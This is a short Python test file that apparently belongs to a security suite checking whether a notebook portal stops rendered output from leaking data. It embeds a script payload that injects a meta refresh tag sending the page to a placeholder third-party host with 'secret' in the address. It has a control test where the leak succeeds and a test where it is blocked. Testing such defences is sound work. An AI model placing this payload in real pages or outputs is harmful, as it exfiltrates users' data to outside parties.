"""Print script that has the page go to a third party by itself, with data in the address.

Way: browser
Control: JupyterLab at the stock hub, where the third party hears it
Held by: the portal's page frames the session's own origin alone (`frame-src`); from tier 2 on printed script is taken
    out
"""

OUTPUT = """
<script>
const refresh = document.createElement("meta");
refresh.httpEquiv = "refresh";
refresh.content = "0; url=THIRD/secret";
document.head.append(refresh);
</script>
"""


def test_control_the_third_party_hears_it(stock_screen, third_party) -> None:
    stock_screen.show(OUTPUT, third_party)
    third_party.hears("secret")
    stock_screen.fresh()


def test_the_third_party_hears_nothing(any_screen, third_party) -> None:
    any_screen.show(OUTPUT, third_party)
    third_party.hears_nothing()
